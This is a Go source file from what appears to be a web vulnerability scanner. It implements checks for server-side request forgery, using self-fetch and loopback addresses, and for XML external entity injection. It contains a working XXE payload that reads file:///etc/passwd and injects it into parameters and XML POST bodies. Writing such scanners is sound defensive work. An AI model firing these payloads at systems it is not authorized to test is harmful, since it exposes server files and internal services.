package web

import (
	"fmt"
	"regexp"
	"strings"

	"github.com/vedette/vedette/internal/engine/web/httpwire"
)

// addressName tells parameters that often hold an address to fetch.
var addressName = regexp.MustCompile(`(?i)ur[il]|link|src|feed|host|site|domain|proxy|callback|hook|image|fetch|load|dest|target|remote`)

// fetchSelf has the server fetch its own front page: request forgery. Only an answer that shows a piece of that page,
// which the usual answer does not have, is a proof; nobody else is asked for anything.
func (s *scan) fetchSelf(sp spot, usual *httpwire.Response) {
	if !addressName.MatchString(sp.name()) && !strings.Contains(sp.value(), "://") {
		return
	}
	front, err := s.client.Do(httpwire.Get("/"))
	if err != nil || front.Status != 200 {
		return
	}
	piece := middle(string(front.Body))
	if piece == "" || strings.Contains(string(usual.Body), piece) {
		return
	}
	for _, address := range []string{
		s.client.Scheme() + "://" + s.client.Authority() + "/", fmt.Sprintf("%s://127.0.0.1:%d/", s.client.Scheme(), s.target.Service.Port),
	} {
		r := s.send(sp, address)
		if r == nil || r.Status >= 300 && r.Status < 400 || !strings.Contains(string(r.Body), piece) {
			continue
		}
		if other := s.send(sp, address+randomName(12)); other == nil || strings.Contains(string(other.Body), piece) {
			return // it shows the page whatever it is asked
		}
		s.report(s.found("web.ssrf", "web-request-forgery", sp.where(), 97, r, piece,
			"The server fetches the address in the parameter "+sp.name()+" and shows what it got; it was given its own: "+address))
		return
	}
}

// middle is a piece of a page that is long enough to be its own.
func middle(body string) string {
	body = strings.TrimSpace(body)
	if len(body) < 24 {
		return ""
	}
	at := len(body) / 3
	return body[at:min(len(body), at+120)]
}

const passwdEntity = `<!DOCTYPE vq [<!ENTITY vq SYSTEM "file:///etc/passwd">]>`

var (
	xmlName = regexp.MustCompile(`(?i)xml|soap|doc|data|body|payload|request|message|import`)
	xmlPath = regexp.MustCompile(`(?i)xml|soap|rpc|import|parse|feed|wsdl`)
	xmlText = regexp.MustCompile(`>[^<>]*<`)
)

// entity makes a document that refers to a file of the system: the given one with the reference for each text, or the
// smallest there is.
func entity(example string) string {
	example = strings.TrimSpace(example)
	if !strings.HasPrefix(example, "<") || !strings.HasSuffix(example, ">") {
		return `<?xml version="1.0"?>` + passwdEntity + `<vq>&vq;</vq>`
	}
	if _, rest, ok := strings.Cut(example, "?>"); ok && strings.HasPrefix(example, "<?") {
		example = strings.TrimSpace(rest)
	}
	return `<?xml version="1.0"?>` + passwdEntity + xmlText.ReplaceAllString(example, ">&vq;<")
}

// expand sends such a document as the value of a parameter.
func (s *scan) expand(sp spot, usual *httpwire.Response) {
	if passwdLine.Match(usual.Body) || !xmlName.MatchString(sp.name()) && !strings.HasPrefix(strings.TrimSpace(sp.value()), "<") {
		return
	}
	for _, document := range []string{entity(sp.value()), entity("")} {
		if r := s.send(sp, document); r != nil && s.reportEntity(sp.where(), r) {
			return
		}
	}
}

func (s *scan) reportEntity(where string, r *httpwire.Response) bool {
	shown := passwdLine.FindString(string(r.Body))
	if shown != "" {
		s.report(s.found("web.xxe", "web-xml-entity", where, 99, r, shown, "XML that is sent may name files of the system, which are shown."))
	}
	return shown != ""
}

const maxXMLPlaces = 20

// expandBodies sends it as the whole request, to forms that are posted as XML and to paths that speak of it.
func (s *scan) expandBodies() {
	examples := map[string]string{}
	for _, p := range s.site.points {
		if p.method == "POST" && len(examples) < maxXMLPlaces && (len(p.params) == 1 || xmlPath.MatchString(p.path)) {
			examples[p.path] = p.params[0].value
		}
	}
	for _, f := range s.site.files {
		if xmlPath.MatchString(f) && !skipped(f) && len(examples) < maxXMLPlaces && examples[f] == "" {
			examples[f] = ""
		}
	}
	var paths []string
	for p := range examples {
		paths = append(paths, p)
	}
	each(s, paths, func(path string) {
		for _, document := range []string{entity(examples[path]), entity("")} {
			r := &httpwire.Request{Method: "POST", Target: path, Body: []byte(document)}
			r.Set("Content-Type", "application/xml")
			if answer, err := s.do(r); err == nil && s.reportEntity(path, answer) {
				return
			}
		}
	})
}
